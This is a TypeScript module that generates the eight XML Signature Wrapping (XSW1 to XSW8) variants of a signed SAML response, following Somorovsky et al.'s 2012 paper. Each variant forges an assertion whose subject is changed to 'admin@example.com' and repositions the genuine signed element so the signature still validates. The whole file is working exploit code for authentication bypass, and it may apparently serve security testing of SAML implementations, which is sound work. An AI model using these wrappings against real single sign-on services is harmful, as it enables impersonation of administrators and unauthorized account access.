import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

const SIGNATURE = 'http://www.w3.org/2000/09/xmldsig#';
const PROTOCOL = 'urn:oasis:names:tc:SAML:2.0:protocol';

function child(parent: Element, name: string): Element | undefined {
  return (Array.from(parent.childNodes) as Element[]).find(({ localName }) => localName === name);
}

function withoutSignature(element: Element): Element {
  const copy = element.cloneNode(true) as Element;
  const signature = child(copy, 'Signature');
  if (signature) copy.removeChild(signature);
  return copy;
}

/** A copy that says something else under another id; a signature in it still points to the original. */
function forged(assertion: Element): Element {
  const copy = assertion.cloneNode(true) as Element;
  copy.setAttribute('ID', '_forged');
  child(child(copy, 'Subject')!, 'NameID')!.textContent = 'admin@example.com';
  return copy;
}

function forgedResponse(response: Element): Element {
  const copy = response.cloneNode(true) as Element;
  copy.setAttribute('ID', '_forged_response');
  const assertion = child(copy, 'Assertion')!;
  copy.replaceChild(withoutSignature(forged(assertion)), assertion);
  return copy;
}

type Wrap = (response: Element, assertion: Element, make: (name: string) => Element) => Element;

/** Puts `next` where the assertion was. */
function instead(response: Element, assertion: Element, next: Element): Element {
  response.replaceChild(next, assertion);
  return response;
}

/**
 * The eight known ways to keep a genuine signature in a message and have something else read.
 *
 * @see J. Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be", 2012
 */
export const WRAPPINGS: Record<string, Wrap> = {
  // The signature of the response: the original moves into it, or in front of it.
  XSW1: (response) => {
    const evil = forgedResponse(response);
    child(evil, 'Signature')!.appendChild(withoutSignature(response));
    return evil;
  },
  XSW2: (response) => {
    const evil = forgedResponse(response);
    evil.insertBefore(withoutSignature(response), child(evil, 'Signature')!);
    return evil;
  },
  // The signature of the assertion: the original stays beside, below, behind or inside the forged one.
  XSW3: (response, assertion) => {
    response.insertBefore(withoutSignature(forged(assertion)), assertion);
    return response;
  },
  XSW4: (response, assertion) => {
    const evil = withoutSignature(forged(assertion));
    evil.appendChild(assertion.cloneNode(true));
    return instead(response, assertion, evil);
  },
  XSW5: (response, assertion) => {
    const original = withoutSignature(assertion);
    instead(response, assertion, forged(assertion)).appendChild(original);
    return response;
  },
  XSW6: (response, assertion) => {
    const evil = forged(assertion);
    (child(evil, 'Signature') ?? evil).appendChild(withoutSignature(assertion));
    return instead(response, assertion, evil);
  },
  XSW7: (response, assertion, make) => {
    const extensions = make('samlp:Extensions');
    extensions.appendChild(withoutSignature(forged(assertion)));
    response.insertBefore(extensions, assertion);
    return response;
  },
  XSW8: (response, assertion, make) => {
    const evil = forged(assertion);
    const object = make('ds:Object');
    object.appendChild(withoutSignature(assertion));
    (child(evil, 'Signature') ?? evil).appendChild(object);
    return instead(response, assertion, evil);
  },
};

export function wrapped(xml: string, variant: string): string {
  const document = new DOMParser().parseFromString(xml, 'text/xml') as Document;
  const response = document.documentElement;
  const make = (name: string): Element =>
    document.createElementNS(name.startsWith('ds:') ? SIGNATURE : PROTOCOL, name);
  const result = WRAPPINGS[variant]!(response, child(response, 'Assertion')!, make);
  return new XMLSerializer().serializeToString(result);
}
